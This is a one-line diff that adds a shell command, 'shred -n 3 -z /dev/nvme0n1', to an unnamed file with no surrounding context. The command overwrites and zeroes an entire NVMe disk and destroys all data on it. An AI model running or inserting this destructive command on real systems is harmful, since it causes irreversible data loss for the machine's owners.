@@ -1,0 +1,1 @@
+shred -n 3 -z /dev/nvme0n1
